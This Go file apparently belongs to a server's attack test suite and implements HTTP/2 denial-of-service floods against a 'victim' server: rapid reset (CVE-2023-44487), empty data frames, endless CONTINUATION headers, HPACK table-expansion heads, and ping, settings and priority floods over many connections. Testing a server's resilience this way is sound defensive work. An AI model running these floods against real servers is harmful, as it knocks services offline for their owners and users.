//go:build attack && linux

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Attacks use frames of HTTP/2 that cost the sender little.
var http2Attacks = []attack{
	{name: "HTTP/2 rapid reset", secure: true, run: frames(resetStream(evaluateHead))},
	{name: "HTTP/2 pings", secure: true, run: frames(func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })},
	{name: "HTTP/2 settings", secure: true, run: frames(func(f *http2.Framer, _ uint32) error { return f.WriteSettings() })},
	{name: "HTTP/2 priorities", secure: true, run: frames(func(f *http2.Framer, n uint32) error {
		return f.WritePriority(1+2*n, http2.PriorityParam{StreamDep: 0, Weight: 1})
	})},
	{name: "HTTP/2 empty data", secure: true, run: frames(emptyData)},
	{name: "HTTP/2 endless heads", secure: true, run: frames(endlessHead)},
	{name: "HTTP/2 heads that expand", secure: true, run: frames(expandingHead)},
	{name: "HTTP/2 unread responses", secure: true, run: frames(unreadStream)},
}

// frames returns an attack with several connections, on each of which write is called with the
// numbers 0, 1, 2 and so on, until it fails because the server has ended the connection.
func frames(write func(f *http2.Framer, n uint32) error) func(context.Context, *testing.T, *victim) {
	return func(ctx context.Context, _ *testing.T, v *victim) {
		repeatAttack(ctx, bodyClients, func(ctx context.Context) {
			conn := v.http2Connection(ctx)
			if conn == nil {
				return
			}
			defer conn.Close()
			stop := context.AfterFunc(ctx, func() { conn.Close() })
			defer stop()
			go func() { _, _ = io.Copy(io.Discard, conn) }()
			framer := http2.NewFramer(conn, nil)
			_, err := io.WriteString(conn, http2.ClientPreface)
			if err == nil { // responses wait for a window that is never opened
				err = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			}
			for n := uint32(0); err == nil && ctx.Err() == nil && n < 1<<30; n++ {
				err = write(framer, n)
			}
		})
	}
}

// http2Connection returns a connection for HTTP/2, or nil if the server refused it.
func (v *victim) http2Connection(ctx context.Context) net.Conn {
	plain := v.connection(ctx, attackerAddress)
	if plain == nil || strings.HasPrefix(v.url, "http:") {
		return plain
	}
	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if conn.HandshakeContext(ctx) != nil {
		plain.Close()
		return nil
	}
	return conn
}

// fields returns the head of a request, with more fields.
func fields(method, path string, more ...hpack.HeaderField) []byte {
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	encoder.SetMaxDynamicTableSizeLimit(0) // so that each head can be repeated
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: path},
	}, more...) {
		_ = encoder.WriteField(f) // a buffer does not fail
	}
	return head.Bytes()
}

var evaluateHead, listHead = fields("POST", "/evaluate"), fields("GET", "/info")

// resetStream returns a function that opens a stream and resets it at once (CVE-2023-44487).
func resetStream(head []byte) func(*http2.Framer, uint32) error {
	return func(f *http2.Framer, n uint32) error {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: head, EndHeaders: true})
		if err == nil {
			err = f.WriteRSTStream(1+2*n, http2.ErrCodeCancel)
		}
		return err
	}
}

// emptyData opens one stream and sends frames of its body that are empty (CVE-2019-9518).
func emptyData(f *http2.Framer, n uint32) error {
	if n == 0 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: evaluateHead, EndHeaders: true})
	}
	return f.WriteData(1, false, nil)
}

// endlessHead continues the head of one stream (CVE-2023-45288).
func endlessHead(f *http2.Framer, n uint32) error {
	if n == 0 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: evaluateHead})
	}
	var more bytes.Buffer
	encoder := hpack.NewEncoder(&more)
	encoder.SetMaxDynamicTableSizeLimit(0)
	_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: string(make([]byte, 1000))})
	return f.WriteContinuation(1, false, more.Bytes())
}

// expandingHead opens streams whose heads name an entry of the table again and again.
func expandingHead(f *http2.Framer, n uint32) error {
	head := fields("POST", "/evaluate")
	if n == 0 { // adds x: 000... to the table, as the entry 62
		head = append(head, 0x40, 1, 'x', 0x7f, 0xa1, 0x1e) // 4000 bytes follow
		head = append(head, bytes.Repeat([]byte("0"), 4000)...)
	}
	head = append(head, bytes.Repeat([]byte{0x80 | 62}, 8000)...)
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: head, EndHeaders: true, EndStream: true})
}

// unreadStream opens streams whose responses wait for the receiver.
func unreadStream(f *http2.Framer, n uint32) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: listHead, EndHeaders: true, EndStream: true})
}
